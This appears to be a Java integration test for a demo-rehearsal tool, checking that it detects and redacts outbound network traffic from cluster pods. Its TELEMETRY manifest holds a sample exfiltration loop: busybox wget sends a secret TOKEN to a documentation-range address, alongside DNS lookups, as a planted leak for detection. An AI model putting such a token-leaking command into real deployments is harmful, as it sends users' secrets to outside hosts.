package dev.roadcase.tests.cluster;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import dev.roadcase.tests.parts.Launcher;
import dev.roadcase.tests.parts.Ran;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardCopyOption;
import java.time.Duration;
import java.util.List;
import java.util.concurrent.TimeUnit;
import java.util.stream.StreamSupport;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.api.parallel.Isolated;

/** A show is tried out from its bundle alone: hello, with a pod that would like to phone home, and the demonstrator. */
@Order(Integer.MAX_VALUE - 4)
@Isolated("the machines need both processors, and the network of the six")
@Tag("cluster")
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class RehearseJourney {
    private static final String SECRET_PARAMETER = """
            parameters:
              TOKEN: {sensitive: true, description: known to the vendor}
            """;

    /** In the place of hello's own, which build and roll out for a minute and a half: junio's show does that too. */
    private static final String SHORT_STEP = """
              - name: note
                say: Something is written into the cluster.
                see: Nothing yet.
                do: [{apply: manifests/note.yaml}]
                undo: [{delete: manifests/note.yaml}]
            """;

    private static final String NOTE = """
            apiVersion: v1
            kind: ConfigMap
            metadata: {name: note}
            """;

    /** It asks for a name, sends something by UDP, and connects: to addresses of TEST-NET-2 (RFC 5737). */
    private static final String TELEMETRY = """
            ---
            apiVersion: v1
            kind: ReplicationController
            metadata: {name: telemetry}
            spec:
              replicas: 1
              selector: {app: telemetry}
              template:
                metadata: {labels: {app: telemetry}}
                spec:
                  automountServiceAccountToken: false
                  terminationGracePeriodSeconds: 1
                  containers:
                    - name: telemetry
                      image: hello/web:1.0.0
                      command: [/bin/busybox, sh, -c]
                      args:
                        - |
                          while :; do
                            /bin/busybox nslookup telemetry.example.com
                            /bin/busybox nslookup other.example.com 198.51.100.7
                            /bin/busybox wget -q -O /dev/null "http://198.51.100.8:9443/?token=${TOKEN}"
                            /bin/busybox sleep 3
                          done
            """;

    @TempDir
    private static Path folder;

    private ShowBridges bridges;
    private Launcher launcher;

    @BeforeAll
    void prepare() throws IOException {
        bridges = ShowBridges.open();
        launcher = ContainerShow.launcher(folder);
        Written.prepare("hello", folder, RehearseJourney::withTelemetry, List.of());
    }

    private static void withTelemetry(Path demo) {
        Written.rewrite(
                demo.resolve("demo.yaml"),
                text -> text.substring(0, text.indexOf("  - name: build\n")).replace("parameters:\n", SECRET_PARAMETER)
                        + SHORT_STEP
                        + ContainerShow.cluster());
        try {
            Files.writeString(demo.resolve("manifests/note.yaml"), NOTE);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        Written.rewrite(demo.resolve("manifests/hello.yaml"), text -> text + TELEMETRY);
    }

    /** Also where a test has failed. */
    @AfterAll
    void remove() {
        try {
            for (JsonNode show : launcher.run("ls", "--json").json().path("shows")) {
                launcher.run("down", "--yes", show.path("folder").asText());
            }
        } finally {
            bridges.close();
        }
    }

    @Test
    void aShowIsTriedOutAndWhateverTriedToLeaveIsNamed() throws IOException {
        Ran rehearsed = launcher.run("rehearse", "hello.bundle", "--set", "TOKEN=open-sesame", "--json");
        print(rehearsed);
        JsonNode document = rehearsed.succeeded().json();
        assertThat(document.path("passed").asBoolean()).isTrue();
        assertThat(document.path("acts").findValuesAsText("name"))
                .containsExactly(
                        "up", "step show", "step note", "undo note", "undo show", "rewind", "loss of node-2", "down");
        assertThat(document.path("blind")).isEmpty();
        JsonNode left = document.path("departures");
        assertThat(left).allSatisfy(one -> {
            assertThat(one.path("place").asText()).startsWith("default/telemetry-");
            assertThat(one.path("packets").asInt()).isPositive();
        });
        assertThat(words(left))
                .contains(
                        "udp 192.0.2.53:53 telemetry.example.com: /bin/busybox nslookup telemetry.example.com",
                        "udp 198.51.100.7:53 other.example.com: /bin/busybox nslookup other.example.com 198.51.100.7",
                        "tcp 198.51.100.8:9443 : /bin/busybox wget -q -O /dev/null"
                                + " http://198.51.100.8:9443/?token=[secret]");
        assertThat(kept(folder.resolve("hello-rehearsal.html")))
                .contains("This demo can be shown: all 8 acts went well", "asked of 192.0.2.53:53", "sha256:")
                .doesNotContain("open-sesame");
        requireNothingIsLeft();
    }

    @Test
    void aCommandThatIsWrongIsNoRehearsal() throws IOException {
        Path temporary = Files.createDirectory(folder.resolve("temporary"));
        Launcher here = launcher.with("JDK_JAVA_OPTIONS", "-Djava.io.tmpdir=" + temporary);
        Ran unknown = here.run("rehearse", "hello.bundle", "--set", "TOKEN=open-sesame", "--set", "TOKN=1");
        assertThat(unknown.exitCode()).isEqualTo(2);
        assertThat(unknown.err()).contains("error: --set \"TOKN\"");
        Ran nowhere = here.run("rehearse", "hello.bundle", "-o", "nowhere/page.html");
        assertThat(nowhere.exitCode()).isEqualTo(6);
        assertThat(nowhere.err()).contains("error: cannot write nowhere/page.html: there is no folder");
        assertThat(temporary).isEmptyDirectory();
    }

    /** How long each act took here. */
    private static void print(Ran rehearsed) {
        rehearsed
                .err()
                .lines()
                .filter(line -> line.matches("(done|failed|left|wrong|rehearsed) .*"))
                .forEach(System.out::println);
    }

    /** The page, which stays for people to look at. */
    private static String kept(Path page) throws IOException {
        Files.copy(page, Path.of("target").resolve(page.getFileName()), StandardCopyOption.REPLACE_EXISTING);
        return Files.readString(page);
    }

    private static List<String> words(JsonNode departures) {
        return StreamSupport.stream(departures.spliterator(), false)
                .map(one -> one.path("protocol").asText() + " "
                        + one.path("address").asText() + ":" + one.path("port").asInt() + " "
                        + one.path("name").asText() + ": " + one.path("command").asText())
                .toList();
    }

    @Test
    void whoeverStopsItFindsNothingLeft() throws IOException, InterruptedException {
        Process stopped = launcher.start("rehearse", "hello.bundle", "--set", "TOKEN=open-sesame");
        Await.until(
                "machines run",
                Duration.ofMinutes(2),
                () -> Host.docker("ps", "--quiet").lines().count() > 2,
                () -> Host.docker("ps", "--all"));
        Host.run(List.of("kill", "-INT", Long.toString(stopped.pid())));
        assertThat(stopped.waitFor(2, TimeUnit.MINUTES)).isTrue();
        String said = Files.readString(folder.resolve("started.log"));
        assertThat(stopped.exitValue()).as(said).isEqualTo(130);
        assertThat(Host.docker("ps", "--all", "--format", "{{.Names}}"))
                .as(said)
                .isEmpty();
        requireNothingIsLeft();
    }

    @Test
    @Tag("campaign")
    void theDemonstratorIsTriedOutWithItsMachineThatFails(@TempDir Path place) throws IOException {
        Path bundle = Demonstrator.forContainers(place);
        Ran rehearsed = launcher.run(
                "rehearse",
                bundle.toString(),
                "--set",
                "WORKLOADS=replicationcontrollers",
                "--trust-embedded",
                "--json");
        print(rehearsed);
        JsonNode document = rehearsed.succeeded().json();
        assertThat(document.path("acts").findValuesAsText("name"))
                .contains("step machine-off", "undo machine-off", "rewind", "down");
        assertThat(document.path("departures")).isEmpty();
        assertThat(kept(place.resolve("inaetics-rehearsal.html"))).contains("Nobody. The machines had no way out");
        requireNothingIsLeft();
    }

    private void requireNothingIsLeft() {
        assertThat(Host.docker("ps", "--all", "--format", "{{.Names}}")).isEmpty();
        assertThat(Host.docker("network", "ls", "--filter", "label=dev.roadcase.show", "--quiet"))
                .isEmpty();
        assertThat(Host.docker("volume", "ls", "--quiet")).isEmpty();
        assertThat(launcher.run("ls", "--json").succeeded().json().path("shows"))
                .isEmpty();
    }
}
